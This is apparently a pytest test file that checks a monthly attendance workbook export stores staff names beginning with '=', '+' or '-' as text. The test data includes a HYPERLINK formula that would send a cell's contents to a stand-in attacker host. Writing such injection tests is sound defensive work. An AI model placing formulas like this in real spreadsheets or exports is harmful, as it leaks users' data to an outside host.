"""The monthly attendance workbook (ATT-10) keeps a staff name such as `=HYPERLINK(...)` as text
(INT-2: spreadsheet formula injection)."""

from __future__ import annotations

from io import BytesIO

from openpyxl import load_workbook

from servicehall.attendance.export import write_month_workbook
from servicehall.attendance.rules import StaffMonthResult

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_att_10__staff_name_formula__stays_text_in_every_sheet():
    result = StaffMonthResult(
        staff_id=7, lates=1, early_leaves=0, missed_punches=0, absence_days=0.0, leave_days={}, events=()
    )
    data = write_month_workbook(
        None,
        month="2026-03",
        policy_ref="yuanzhou-p2@1",
        results=[result],
        staff_info={7: {"name": EVIL, "staff_no": "+A7", "unit": "-税务"}},
    )
    wb = load_workbook(BytesIO(data))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert any(c.value == "'" + EVIL for c in cells)
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@")), cell.value
